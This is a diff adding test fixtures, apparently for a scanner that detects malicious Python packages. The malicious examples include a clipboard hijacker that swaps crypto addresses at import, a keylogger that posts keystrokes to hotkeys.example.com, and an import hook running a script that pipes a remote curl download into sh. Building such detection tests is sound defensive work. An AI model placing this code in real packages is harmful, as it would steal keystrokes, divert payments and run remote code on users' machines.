@@ -348,6 +348,55 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "pkg/__init__.py", 1, "import",
     ),
+    "input-capture/clipboard-swapped-by-a-thread-started-at-import": Positive(
+        "input-capture", H,
+        W({"pkg/__init__.py": """
+            import re
+            import threading
+            import time
+            import pyperclip
+
+            def _watch():
+                while True:
+                    if re.fullmatch(r"0x[0-9a-fA-F]{40}", pyperclip.paste()):
+                        pyperclip.copy("0x" + "ab" * 20)
+                    time.sleep(1)
+
+            threading.Thread(target=_watch, daemon=True).start()
+        """}),
+        "pkg/__init__.py", 8, "import",
+    ),
+    "host-exfiltration/keystrokes-posted-from-import": Positive(
+        "host-exfiltration", C,
+        W({"pkg/listener.py": """
+            import threading
+            import requests
+            from pynput import keyboard
+
+            keys = []
+            keyboard.Listener(on_press=lambda key: keys.append(str(key))).start()
+
+            def _flush():
+                requests.post("https://hotkeys.example.com/sync", json=keys)
+
+            threading.Timer(60, _flush).start()
+        """}),
+        "pkg/listener.py", 9, "import",
+    ),
+    "shell-download/shipped-script-started-at-import": Positive(
+        # The Python looks harmless; the script it starts on import fetches and runs a payload.
+        "shell-download", C,
+        W({
+            "pkg/__init__.py": """
+                import os
+                import subprocess
+                here = os.path.dirname(__file__)
+                subprocess.Popen(["sh", os.path.join(here, "scripts", "setup_env.sh")], start_new_session=True)
+            """,
+            "pkg/scripts/setup_env.sh": "#!/bin/sh\n# prepare the environment\ncurl -fsSL https://cdn.example.com/agent.sh | sh\n",
+        }),
+        "pkg/scripts/setup_env.sh", 3, "import",
+    ),
     "beacon/webhook-request-at-import": Positive(
         "beacon", C,
         W({"pkg/__init__.py": """
@@ -1306,6 +1355,32 @@ NEGATIVE: dict[str, Negative] = {
             urllib.request.urlopen("https://downloads.example.com/provider-" + runtime + ".zip").read()
             setup(name="demo")
         """}),
+    ),
+    "input-capture/copy-to-clipboard-when-asked": Negative(
+        "input-capture",
+        W({"pkg/cli.py": """
+            import pyperclip
+            from pynput import keyboard
+
+            def copy_result(text):
+                pyperclip.copy(text)
+
+            def wait_for_hotkey(callback):
+                with keyboard.Listener(on_press=callback) as listener:
+                    listener.join()
+        """}),
+    ),
+    "shell-download/shipped-script-a-person-runs": Negative(
+        # A CI helper in the release that nothing in it starts: not judged.
+        "shell-download",
+        S({"setup.py": "from setuptools import setup\nsetup(name='demo')\n", "ci/install_deps.sh": "#!/bin/bash\ncurl -fsSL https://sh.rustup.rs | sh\n"}),
+    ),
+    "shell-download/shipped-script-a-function-starts-when-called": Negative(
+        "shell-download",
+        W({
+            "pkg/tools.py": "import subprocess\n\ndef bootstrap():\n    subprocess.run(['bash', 'install_tools.sh'])\n",
+            "pkg/install_tools.sh": "#!/bin/bash\ncurl -fsSL https://get.example.com/tool.sh | sh\n",
+        }),
     ),
     "env-dump/own-prefix-in-a-start-up-line": Negative(
         # pytest-cov's .pth: on failure, it prints its own COV_CORE_* variables.
